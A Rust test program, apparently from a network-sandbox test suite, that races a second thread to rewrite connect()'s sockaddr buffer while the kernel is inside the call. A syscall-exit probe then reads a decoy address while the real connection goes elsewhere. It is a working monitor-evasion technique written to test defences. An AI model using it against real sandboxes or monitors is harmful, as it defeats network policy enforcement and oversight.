//! A connect whose `sockaddr` is rewritten by another thread while the call is in the kernel:
//! the kernel copied the real destination at the start of the call, so that is where the
//! connection goes; whoever reads the caller's buffer afterwards (a syscall-exit probe) reads
//! the decoy.
//!
//! ```text
//! connect-race ADDR PORT DECOY_ADDR DECOY_PORT MESSAGE
//!     One blocking connect to ADDR:PORT. A second thread waits until the first sleeps inside
//!     connect(2) (/proc/self/task/TID/syscall), then writes DECOY into the buffer. The connect
//!     must block for that: the test's listener holds its accept queue full for a moment (its
//!     SYN is dropped and resent after 1 s).
//! ```
//! The decoy is written only once the kernel sleeps in the call, long after it copied the
//! real address: nothing is ever sent to the decoy (pick an allowed address, e.g. in
//! 10.0.0.0/8, for `--allow-net 10.0.0.0/8` to pass).
//! Prints one JSON line: the buffer's content when connect returned and where
//! the socket is really connected (getpeername).
#[path = "net_attack/common.rs"]
mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use common::*;
use serde_json::json;

/// A `sockaddr_in` another thread may rewrite while the kernel reads it: two 64-bit halves
/// written atomically (no data race in the Rust sense).
#[repr(C, align(16))]
struct SharedAddr([AtomicU64; 2]);

impl SharedAddr {
    fn halves(addr: &std::net::SocketAddr) -> [u64; 2] {
        let (ss, len) = raw_sockaddr(addr);
        assert_eq!(len as usize, 16, "IPv4 addresses only");
        // SAFETY: the first 16 bytes of the storage hold the sockaddr_in.
        unsafe { std::ptr::read((&raw const ss).cast::<[u64; 2]>()) }
    }

    fn store(&self, v: [u64; 2]) {
        self.0[0].store(v[0], Ordering::SeqCst);
        self.0[1].store(v[1], Ordering::SeqCst);
    }

    fn now(&self) -> String {
        let v = [
            self.0[0].load(Ordering::SeqCst),
            self.0[1].load(Ordering::SeqCst),
        ];
        // SAFETY: plain data.
        let mut ss: libc::sockaddr_storage = unsafe { std::mem::zeroed() };
        // SAFETY: 16 bytes into a larger storage.
        unsafe { std::ptr::write((&raw mut ss).cast::<[u64; 2]>(), v) };
        storage_to_string(&ss)
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [ip, port, dip, dport, msg] = &args[..] else {
        die("usage: connect-race ADDR PORT DECOY_ADDR DECOY_PORT MESSAGE")
    };
    let real = parse_addr(ip, port);
    let decoy = parse_addr(dip, dport);
    let decoy_v = SharedAddr::halves(&decoy);
    let shared = Arc::new(SharedAddr([AtomicU64::new(0), AtomicU64::new(0)]));
    shared.store(SharedAddr::halves(&real));
    let me = gettid();
    let racer = {
        let shared = shared.clone();
        std::thread::spawn(move || {
            let inside = wait_in_syscall(
                me,
                libc::SYS_connect,
                Duration::from_millis(100),
                Duration::from_secs(5),
            );
            if inside {
                shared.store(decoy_v);
            }
            inside
        })
    };
    let fd = socket(libc::AF_INET, libc::SOCK_STREAM, 0);
    // SAFETY: the shared buffer is a live 16-byte sockaddr_in.
    let r = unsafe { libc::connect(fd, shared.0.as_ptr().cast(), 16) };
    let err = (r != 0).then(|| std::io::Error::last_os_error().to_string());
    let swapped = racer.join().unwrap_or(false);
    let sent = if r == 0 {
        send_all(fd, msg.as_bytes())
    } else {
        -1
    };
    report(json!({
        "attack": "connect-race", "real": real.to_string(), "decoy": decoy.to_string(),
        "connect": err.unwrap_or_else(|| "ok".into()), "swapped": swapped,
        "buffer_at_return": shared.now(), "connected_to": sock_name(fd, true),
        "local": sock_name(fd, false), "sent": sent,
    }));
    close(fd);
    if !swapped {
        eprintln!("connect-race: the connect never slept in the kernel; nothing was swapped");
        std::process::exit(1);
    }
}
